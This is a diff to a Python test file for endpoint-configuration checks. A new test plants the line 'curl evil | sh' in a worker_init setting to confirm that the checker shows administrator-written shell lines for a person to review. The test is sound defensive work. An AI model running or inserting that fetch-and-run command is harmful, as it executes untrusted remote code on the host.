@@ -31,6 +31,7 @@ from counterseal.runtime.endpoint.kit import Kit
 from counterseal.runtime.founding.charter_folder import read_charter_folder
 from counterseal.runtime.founding.federation import found_federation
 from counterseal.runtime.transports.compute.service import ComputeService
+from counterseal.tests.globus.caller import Caller, account_id
 from counterseal.tests.globus.test_endpoint_kit import DAEMON, kit
 from counterseal.tests.runtime.cli_world import call, document
 from counterseal.tests.standin.cloud import Cloud
@@ -214,6 +215,15 @@ def _python_configuration(made: Kit) -> None:
     (Path(made.folder) / "config.py").write_text("import os\n")
 
 
+def test_what_the_administrator_chose_freely_is_shown(place: Place, made: Kit) -> None:
+    """Whoever can write the folder can change the record with it: a person must see what the kit cannot judge."""
+    changed = made.model_copy(update={"worker_init": "module load x\ncurl evil | sh\n", "keep": ("DATA",)})
+    write_folder(changed)
+    check = place.endpoint_checks(changed)["endpoint: folder"]
+    assert check.ok and made.function in check.what
+    assert "yours? shell lines: module load x | curl evil | sh; variables: DATA" in check.what
+
+
 @pytest.mark.parametrize(
     ("harm", "said"),
     [
@@ -232,9 +242,10 @@ def test_drift_of_the_folder_is_named(place: Place, made: Kit, harm: Callable[[K
 
 def test_other_code_registered_under_the_allowed_id_is_found(place: Place, made: Kit) -> None:
     assert place.endpoint_checks(made)["endpoint: function"].ok
-    document = place.cloud._compute.functions[made.function].document
-    document["function_code"] = document["function_code"].replace("site_died", "site_dead")
-    check = place.endpoint_checks(made)["endpoint: function"]
+    server = Caller(place.cloud.url, (place.server, (place.folder / "server-secret").read_text()))
+    other = made.model_copy(update={"function": server.register(account_id)})
+    write_folder(other)
+    check = place.endpoint_checks(other)["endpoint: function"]
     assert check.ok is False and "not this version's" in check.what and "do not start" in check.mend
     place.cloud.fault("compute", "/v2/functions", status=403)
     assert place.endpoint_checks(made)["endpoint: function"].ok is None, "a login that may not ask decides nothing"
